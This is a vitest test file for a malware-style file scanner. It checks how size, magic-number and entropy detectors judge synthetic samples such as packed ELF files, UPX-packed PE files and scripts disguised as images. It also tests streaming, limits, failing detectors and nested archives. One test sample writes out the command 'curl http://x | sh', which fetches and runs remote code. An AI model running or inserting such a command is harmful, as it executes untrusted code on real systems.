import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isWardenError } from '@warden/protocol';
import { defaultDetectors } from './detectors.js';
import { entropyDetector } from './entropy.js';
import { magicDetector } from './magic.js';
import { ascii, chunked, concat, elf, pe, png, randomBytes } from './samples.js';
import { createScanner, type ScannerOptions } from './scanner.js';
import { sizeDetector } from './size.js';
import type { Detector, Finding, Level, ScanContext, Verdict } from './types.js';

const mine = (): Detector[] => [sizeDetector(), magicDetector(), entropyDetector()];
const scanner = (o: ScannerOptions = {}): ReturnType<typeof createScanner> => createScanner({ detectors: mine(), ...o });
const sha = (b: Uint8Array): string => createHash('sha256').update(b).digest('hex');
const rules = (v: Verdict): string[] => v.findings.map((f) => (f.member === undefined ? f.ruleId : `${f.ruleId}@${f.member}`)).sort();
const RANK: Record<Level, number> = { clean: 0, suspicious: 1, malicious: 2, critical: 3 };
/** A verdict without timings, which differ from run to run. */
const stable = (v: Verdict): unknown => ({ ...v, detectors: v.detectors.map(({ durationMs: _d, ...rest }) => rest) });

async function wardenCode(p: Promise<unknown>): Promise<string | undefined> {
  try {
    await p;
  } catch (err) {
    return isWardenError(err) ? err.code : `not a WardenError: ${String(err)}`;
  }
  return undefined;
}

/** Machine-code-like filler (about 4 bits/byte). */
const code = (n: number): Uint8Array => randomBytes(n, 11).map((x) => [0x48, 0x89, 0xe5, 0xc3, 0x00, 0x0f, 0x1f, 0xe8, 0x55, 0x5d][x % 10]!);

const SAMPLES: readonly (readonly [label: string, bytes: Uint8Array, name: string])[] = [
  ['packed ELF named .png', elf({ body: randomBytes(40_000) }), 'cat.png'],
  ['ordinary ELF', elf({ type: 'dyn', interp: true, body: code(40_000) }), 'server'],
  ['PE with UPX', pe({ body: concat(ascii('UPX0\0'), randomBytes(20_000), ascii('UPX!'), code(9000)) }), 'setup.exe'],
  ['shell script named .png', ascii('#!/bin/bash\ncurl http://x | sh\n'.repeat(50)), 'kitten.png'],
  ['random data named .bin', randomBytes(40_000, 3), 'blob.bin'],
  ['PNG of random-looking data', png(randomBytes(40_000, 5)), 'photo.png'],
  ['text', ascii('hello world\n'.repeat(3000)), 'notes.txt'],
  ['empty', new Uint8Array(0), 'empty.txt'],
];

describe('scanner: verdicts for real samples', () => {
  it.each<[string, Level, string[], string]>([
    // Packed and disguised as an image: two independent signs of intent to hide, on native code.
    ['packed ELF named .png', 'malicious', ['entropy/packed-executable', 'magic/elf-executable', 'magic/extension-mismatch'], 'elf'],
    ['ordinary ELF', 'clean', ['magic/elf-executable'], 'elf'],
    ['PE with UPX', 'suspicious', ['entropy/upx', 'magic/pe-executable'], 'pe'],
    ['shell script named .png', 'suspicious', ['magic/extension-mismatch', 'magic/script'], 'script/sh'],
    ['random data named .bin', 'clean', ['entropy/encrypted-data'], 'binary'],
    ['PNG of random-looking data', 'clean', [], 'png'],
    ['text', 'clean', [], 'text'],
    ['empty', 'clean', ['size/empty'], 'empty'],
  ])('%s → %s', async (label, level, expected, contentType) => {
    const [, bytes, name] = SAMPLES.find(([l]) => l === label)!;
    const v = await scanner().scanBytes(bytes, name);
    expect(v.level).toBe(level);
    expect(rules(v)).toEqual(expected);
    expect(v).toMatchObject({ contentType, bytes: bytes.length, sha256: sha(bytes) });
    expect(v.truncated).toBeUndefined();
    expect(v.detectors.map((d) => d.name)).toEqual(['size', 'magic', 'entropy']);
    if (level === 'clean' && expected.length === 0) expect(v.explanation).toMatch(/no detector found anything/);
  });

  it('does not apply entropy to images and says so', async () => {
    const v = await scanner().scanBytes(png(randomBytes(40_000)), 'photo.png');
    expect(v.detectors.find((d) => d.name === 'entropy')).toMatchObject({ ran: false });
    expect(v.detectors.find((d) => d.name === 'entropy')?.error).toBeUndefined();
  });

  it('names the top finding and its offset in the explanation', async () => {
    const v = await scanner().scanBytes(elf({ body: randomBytes(40_000) }), 'cat.png');
    expect(v.explanation).toMatch(/^Malicious \(score 0\.\d\d\): magic\/extension-mismatch at offset 0 \(medium\).*; also entropy\/packed-executable at offset 0 \(medium\) and 1 more rule\.$/);
  });
});

describe('scanner: streaming', () => {
  it('gives the same verdict for every chunking, down to 1-byte chunks', async () => {
    const s = scanner();
    for (const [label, bytes, name] of SAMPLES) {
      const whole = stable(await s.scanBytes(bytes, name));
      for (const size of [1, 7, 4095, 8192, 65_537]) {
        const v = await s.scanStream(chunked(bytes, size), { name, size: bytes.length });
        expect({ label, size, v: stable(v) }).toEqual({ label, size, v: whole });
      }
    }
  });

  it('splits large pieces into chunkBytes and hashes everything', async () => {
    const bytes = randomBytes(3 * 1024 * 1024 + 17);
    const seen: number[] = [];
    const spy: Detector = { name: 'spy', start: () => ({ update: (c) => void seen.push(c.length), finish: () => ({ ran: true, findings: [] }) }) };
    const v = await createScanner({ detectors: [spy], chunkBytes: 1024 * 1024 }).scanBytes(bytes, 'x');
    expect(seen).toEqual([1048576, 1048576, 1048576, 17]);
    expect(v).toMatchObject({ bytes: bytes.length, sha256: sha(bytes) });
  });

  it('scans files from disk in chunks, with the stat size as the declared size', async () => {
    const bytes = concat(elf(), randomBytes(2 * 1024 * 1024 + 5));
    const path = join(dir, 'payload.png');
    await writeFile(path, bytes);
    const v = await scanner().scanFile(path);
    expect(v).toMatchObject({ bytes: bytes.length, sha256: sha(bytes), contentType: 'elf', level: 'malicious' });
    expect(rules(v)).toContain('magic/extension-mismatch');
    expect(rules(v)).not.toContain('size/declared-mismatch');
  });

  it('reports a stream that delivers a size other than the one declared, even an absurd one', async () => {
    const v = await scanner().scanStream(chunked(ascii('hello\n'), 2), { name: 'x.txt', size: Number.MAX_SAFE_INTEGER });
    expect(rules(v)).toEqual(['size/declared-mismatch', 'size/huge']);
  });

  it('accepts a Node Readable', async () => {
    const { Readable } = await import('node:stream');
    const v = await scanner().scanStream(Readable.from([Buffer.from('#!/bin/sh\n'), Buffer.from('echo hi\n')]), { name: 'a.png' });
    expect(v.contentType).toBe('script/sh');
  });
});

let dir = '';
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'warden-scan-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('scanner: edges and errors', () => {
  it('refuses what is not a regular file, without blocking on a FIFO', async () => {
    expect(await wardenCode(scanner().scanFile(join(dir, 'missing')))).toBe('E_FILE_NOT_FOUND');
    expect(await wardenCode(scanner().scanFile(dir))).toBe('E_INVALID_ARGUMENT');
    const fifo = join(dir, 'fifo');
    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
    expect(await wardenCode(scanner().scanFile(fifo))).toBe('E_INVALID_ARGUMENT');
  });

  it.each<[string, () => Promise<unknown>]>([
    ['scanFile without a path', () => scanner().scanFile('')],
    ['scanBytes of a string', () => scanner().scanBytes('abc' as unknown as Uint8Array, 'x')],
    ['scanStream of a number', () => scanner().scanStream(5 as unknown as AsyncIterable<Uint8Array>, { name: 'x' })],
    ['scanStream without info', () => scanner().scanStream(chunked(new Uint8Array(1), 1), undefined as unknown as { name: string })],
    ['scanStream with a negative size', () => scanner().scanStream(chunked(new Uint8Array(1), 1), { name: 'x', size: -1 })],
    ['a signal that is not an AbortSignal', () => scanner().scanBytes(new Uint8Array(1), 'x', { signal: {} as AbortSignal })],
  ])('rejects %s with E_INVALID_ARGUMENT', async (_label, call) => {
    expect(await wardenCode(call())).toBe('E_INVALID_ARGUMENT');
  });

  it.each<[string, ScannerOptions]>([
    ['chunkBytes too small', { chunkBytes: 5 }],
    ['timeoutMs 0', { timeoutMs: 0 }],
    ['fractional maxDepth', { maxDepth: 1.5 }],
    ['negative maxMembers', { maxMembers: -1 }],
    ['detectors not an array', { detectors: {} as unknown as Detector[] }],
    ['a detector without start', { detectors: [{ name: 'x' } as unknown as Detector] }],
    ['two detectors with one name', { detectors: [magicDetector(), magicDetector()] }],
  ])('createScanner rejects %s', (_label, o) => {
    expect(() => createScanner(o)).toThrow(expect.objectContaining({ code: 'E_INVALID_ARGUMENT' }) as Error);
  });

  it('fails a source that throws with E_FILE_OPERATION_FAILED, naming the file', async () => {
    async function* broken(): AsyncGenerator<Uint8Array> {
      yield new Uint8Array(10);
      await Promise.resolve();
      throw new Error('disk on fire');
    }
    const p = scanner().scanStream(broken(), { name: 'x.bin' });
    await expect(p).rejects.toMatchObject({ code: 'E_FILE_OPERATION_FAILED', message: expect.stringMatching(/x\.bin failed after 10 bytes.*disk on fire/) as unknown });
  });

  it('stops at maxFileBytes with a finding, hashing what it scanned', async () => {
    const bytes = randomBytes(20_000);
    const v = await scanner({ maxFileBytes: 10_240 }).scanBytes(bytes, 'x.bin');
    expect(v).toMatchObject({ truncated: true, bytes: 10_240, sha256: sha(bytes.subarray(0, 10_240)), level: 'suspicious' });
    expect(rules(v)).toContain('scan/limit-size');
    expect(rules(v)).not.toContain('size/declared-mismatch');
  });

  it('never throws or rejects on adversarial bytes and names', async () => {
    const s = scanner();
    const names = ['', 'x', '.', '...', 'a.png', 'a.pdf.exe', '\u202e', 'a/b/c.tar.gz', '\0.png', 'x'.repeat(5000)];
    for (let seed = 1; seed <= 300; seed++) {
      const b = randomBytes((seed * 131) % 12_000, seed);
      if (seed % 4 === 0 && b.length > 64) b.set(elf().subarray(0, 64 - (seed % 60)));
      if (seed % 4 === 1 && b.length > 2) b.set(ascii('MZ'));
      const v = await s.scanStream(chunked(b, 1 + (seed % 9000)), { name: names[seed % names.length]! });
      expect(v.bytes).toBe(b.length);
      expect(RANK[v.level]).toBeGreaterThanOrEqual(0);
    }
  });
});

describe('scanner: failing detectors fail closed', () => {
  const throwing = (where: 'start' | 'update' | 'finish' | 'reject' | 'garbage'): Detector => ({
    name: 'flaky',
    start() {
      if (where === 'start') throw new Error('no start');
      return {
        update() {
          if (where === 'update') throw new Error('no update');
        },
        finish() {
          if (where === 'finish') throw new Error('no finish');
          if (where === 'reject') return Promise.reject(new Error('no promise'));
          return (where === 'garbage' ? 42 : { ran: true, findings: [] }) as unknown as { ran: boolean; findings: Finding[] };
        },
      };
    },
  });

  it.each(['start', 'update', 'finish', 'reject', 'garbage'] as const)('a detector failing in %s makes a clean file suspicious with low confidence', async (where) => {
    const v = await createScanner({ detectors: [...mine(), throwing(where)] }).scanBytes(ascii('hello\n'), 'x.txt');
    expect(v.level).toBe('suspicious');
    expect(v.confidence).toBeLessThan(0.3);
    const report = v.detectors.find((d) => d.name === 'flaky')!;
    expect(report).toMatchObject({ ran: false, error: expect.any(String) as unknown });
    expect(rules(v)).toEqual(['scan/detector-error']);
    expect(v.explanation).toMatch(/flaky failed/);
    expect(v.detectors.filter((d) => d.error === undefined).map((d) => d.name)).toEqual(['size', 'magic', 'entropy']);
  });

  it('keeps the other detectors’ findings when one fails', async () => {
    const v = await createScanner({ detectors: [...mine(), throwing('update')] }).scanBytes(elf({ body: randomBytes(20_000) }), 'x.png');
    expect(rules(v)).toEqual(['entropy/packed-executable', 'magic/elf-executable', 'magic/extension-mismatch', 'scan/detector-error']);
    expect(RANK[v.level]).toBeGreaterThanOrEqual(RANK.suspicious);
  });

  it('normalizes malformed findings instead of trusting them', async () => {
    const sloppy: Detector = {
      name: 'sloppy',
      start: () => ({
        update() {},
        finish: () => ({ ran: true, findings: [{ ruleId: '', severity: 'apocalyptic', certainty: Number.NaN, evidence: 'nope' }, null] as unknown as Finding[] }),
      }),
    };
    const v = await createScanner({ detectors: [sloppy] }).scanBytes(new Uint8Array(4), 'x');
    expect(v.findings).toEqual([{ detector: 'sloppy', ruleId: 'sloppy/unnamed', severity: 'medium', certainty: 1, message: 'sloppy/unnamed', evidence: [] }]);
    expect(v.level).toBe('suspicious');
  });
});

describe('scanner: time budget and cancellation', () => {
  it('gives a verdict, not a hang, when an async detector never finishes', async () => {
    const hung: Detector = { name: 'hung', start: () => ({ update() {}, finish: () => new Promise<never>(() => {}) }) };
    const t = performance.now();
    const v = await createScanner({ detectors: [...mine(), hung], timeoutMs: 200 }).scanBytes(ascii('hi\n'), 'x.txt');
    expect(performance.now() - t).toBeLessThan(5000);
    expect(v.level).toBe('suspicious');
    expect(v.detectors.find((d) => d.name === 'hung')?.error).toMatch(/time budget/);
    expect(rules(v)).toEqual(['scan/detector-error', 'scan/limit-time']);
  });

  it('gives a truncated verdict when the source stalls', async () => {
    async function* stalls(): AsyncGenerator<Uint8Array> {
      yield ascii('#!/bin/sh\n');
      await new Promise<never>(() => {});
    }
    const v = await scanner({ timeoutMs: 200 }).scanStream(stalls(), { name: 'x.png' });
    expect(v).toMatchObject({ truncated: true, bytes: 10, contentType: 'script/sh', level: 'suspicious' });
    expect(rules(v)).toEqual(['magic/extension-mismatch', 'magic/script', 'scan/limit-time']);
  });

  it('rejects with the caller’s reason when cancelled, even while the source stalls', async () => {
    async function* stalls(): AsyncGenerator<Uint8Array> {
      yield new Uint8Array(1);
      await new Promise<never>(() => {});
    }
    const ac = new AbortController();
    const p = scanner().scanStream(stalls(), { name: 'x' }, { signal: ac.signal });
    setTimeout(() => ac.abort(new Error('user gave up')), 50);
    await expect(p).rejects.toThrow('user gave up');
    await expect(scanner().scanBytes(new Uint8Array(1), 'x', { signal: AbortSignal.abort() })).rejects.toMatchObject({ name: 'AbortError' });
  });
});

/**
 * A test container: `BOX1` then members as (u16 name length, name, u32 size, bytes).
 * The detector buffers the file (fine for tests) and scans members on finish.
 */
function box(members: readonly (readonly [string, Uint8Array])[]): Uint8Array {
  const parts: Uint8Array[] = [ascii('BOX1')];
  for (const [name, data] of members) {
    const head = new Uint8Array(2 + name.length + 4);
    const v = new DataView(head.buffer);
    v.setUint16(0, name.length);
    head.set(ascii(name), 2);
    v.setUint32(2 + name.length, data.length);
    parts.push(head, data);
  }
  return concat(...parts);
}

interface BoxMode {
  /** Lift members' findings into the box's own, re-rooted at the member (as the real archive detector does). */
  readonly copy?: boolean;
  readonly noAwait?: boolean;
  readonly stream?: 'chunks' | 'broken';
}

function boxDetector(mode: BoxMode = {}): Detector {
  return {
    name: 'box',
    start(ctx: ScanContext) {
      const parts: Uint8Array[] = [];
      return {
        update: (chunk) => void parts.push(chunk.slice()),
        async finish() {
          const all = concat(...parts);
          if (ascii('BOX1').some((c, i) => all[i] !== c)) return { ran: false, findings: [] };
          const v = new DataView(all.buffer);
          const findings: Finding[] = [];
          const tasks: Promise<readonly [string, Verdict]>[] = [];
          for (let off = 4; off + 2 <= all.length; ) {
            const nameLen = v.getUint16(off);
            const name = String.fromCharCode(...all.subarray(off + 2, off + 2 + nameLen));
            const size = v.getUint32(off + 2 + nameLen);
            const data = all.subarray(off + 6 + nameLen, off + 6 + nameLen + size);
            off += 6 + nameLen + size;
            async function* broken(): AsyncGenerator<Uint8Array> {
              yield data.subarray(0, 3);
              await Promise.resolve();
              throw new Error('inflate failed');
            }
            const source = mode.stream === 'chunks' ? chunked(data, 1000) : mode.stream === 'broken' ? broken() : data;
            const task = ctx.scanMember(name, source, { size });
            if (mode.noAwait === true) continue;
            tasks.push(task.then((verdict) => [name, verdict] as const));
          }
          for (const [name, verdict] of await Promise.all(tasks)) {
            if (mode.copy === true) findings.push(...verdict.findings.map((f) => ({ ...f, member: f.member === undefined ? name : `${name}!${f.member}` })));
          }
          return { ran: true, findings };
        },
      };
    },
  };
}

describe('scanner: archive members', () => {
  const withBox = (mode: BoxMode = {}, o: ScannerOptions = {}): ReturnType<typeof createScanner> => createScanner({ detectors: [...mine(), boxDetector(mode)], ...o });

  it('reports a member’s findings with its path', async () => {
    const v = await withBox().scanBytes(box([['readme.txt', ascii('hi\n')], ['payload.png', elf({ body: randomBytes(20_000) })]]), 'upload.box');
    // The container itself is an unknown, high-entropy format: the entropy detector says so.
    expect(rules(v)).toEqual(['entropy/encrypted-data', 'entropy/packed-executable@payload.png', 'magic/elf-executable@payload.png', 'magic/extension-mismatch@payload.png']);
    expect(v.level).toBe('malicious');
    expect(v.explanation).toMatch(/at offset 0 in payload\.png/);
  });

  it('scans streamed members the same as whole ones', async () => {
    const file = box([['payload.png', elf({ body: randomBytes(20_000) })]]);
    const a = await withBox().scanBytes(file, 'u.box');
    const b = await withBox({ stream: 'chunks' }).scanBytes(file, 'u.box');
    expect(b.findings).toEqual(a.findings);
  });

  it('stops nesting at maxDepth with one finding naming the path', async () => {
    let inner: Uint8Array = ascii('#!/bin/sh\n');
    for (let i = 6; i >= 1; i--) inner = box([[`l${i}.box`, inner]]);
    const v = await withBox().scanBytes(inner, 'top.box');
    expect(rules(v)).toEqual(['archive/limit-depth@l1.box!l2.box!l3.box!l4.box!l5.box']);
    expect(v.level).toBe('suspicious');
    const shallow = await withBox({}, { maxDepth: 6 }).scanBytes(inner, 'top.box');
    expect(rules(shallow)).toEqual(['magic/script@l1.box!l2.box!l3.box!l4.box!l5.box!l6.box']);
  });

  it('stops at maxMembers with one finding', async () => {
    const members = Array.from({ length: 20 }, (_, i) => [`m${i}.png`, ascii('#!/bin/sh\n')] as const);
    const v = await withBox({}, { maxMembers: 5 }).scanBytes(box(members), 'u.box');
    expect(rules(v).filter((r) => r.startsWith('magic/extension-mismatch'))).toHaveLength(5);
    expect(rules(v).filter((r) => r.startsWith('archive/limit-members'))).toEqual(['archive/limit-members@m5.png']);
  });

  it('stops at maxExpandedBytes with one finding, cutting the member that crosses it', async () => {
    const members = [0, 1, 2].map((i) => [`m${i}.bin`, randomBytes(6000, i + 1)] as const);
    const v = await withBox({}, { maxExpandedBytes: 10_000 }).scanBytes(box(members), 'u.box');
    expect(rules(v).filter((r) => r.startsWith('archive/'))).toEqual(['archive/limit-bytes@m1.bin']);
    expect(rules(v)).not.toContain('size/declared-mismatch@m1.bin');
    expect(v.level).toBe('suspicious');
  });

  it('answers scanMember with the member’s own verdict, paths relative to the member', async () => {
    let seen: Verdict | undefined;
    const probe: Detector = {
      name: 'probe',
      start: (ctx) => ({
        update() {},
        async finish() {
          if (ctx.depth === 0) seen = await ctx.scanMember('inner.box', box([['x.png', elf()]]));
          return { ran: true, findings: [] };
        },
      }),
    };
    await createScanner({ detectors: [...mine(), boxDetector(), probe] }).scanBytes(ascii('outer'), 'o.txt');
    expect(seen && rules(seen)).toEqual(['magic/elf-executable@x.png', 'magic/extension-mismatch@x.png']);
  });

  it('drops copies when the archive detector also lifts its members’ findings, at every depth', async () => {
    for (const file of [box([['payload.png', elf()]]), box([['a.box', box([['b.box', box([['c.png', elf()]])]])]])]) {
      const plain = await withBox().scanBytes(file, 'u.box');
      const lifted = await withBox({ copy: true }).scanBytes(file, 'u.box');
      expect(lifted.findings).toEqual(plain.findings);
      expect(lifted.findings.length).toBe(2);
    }
  });

  it('still collects members whose scans the detector did not await', async () => {
    const v = await withBox({ noAwait: true }).scanBytes(box([['a.png', elf()]]), 'u.box');
    expect(rules(v)).toEqual(['magic/elf-executable@a.png', 'magic/extension-mismatch@a.png']);
  });

  it('turns a member that fails to read into a finding, not a rejection', async () => {
    const v = await withBox({ stream: 'broken' }).scanBytes(box([['a.txt', ascii('hello world')]]), 'u.box');
    expect(rules(v)).toEqual(['scan/read-error@a.txt']);
    expect(v.level).toBe('suspicious');
  });

  it('carries a member’s detector failure up to the file', async () => {
    const picky: Detector = {
      name: 'picky',
      start: (ctx) => ({
        update() {
          if (ctx.depth > 0) throw new Error('members upset me');
        },
        finish: () => ({ ran: true, findings: [] }),
      }),
    };
    const v = await createScanner({ detectors: [...mine(), boxDetector(), picky] }).scanBytes(box([['a.txt', ascii('hi')]]), 'u.box');
    expect(rules(v)).toEqual(['scan/detector-error@a.txt']);
    expect(v.level).toBe('suspicious');
  });
});

describe('defaultDetectors', () => {
  it('starts with size, magic and entropy, cheapest first', async () => {
    const names = (await defaultDetectors()).map((d) => d.name);
    expect(names.slice(0, 3)).toEqual(['size', 'magic', 'entropy']);
    expect(new Set(names).size).toBe(names.length);
  });
});
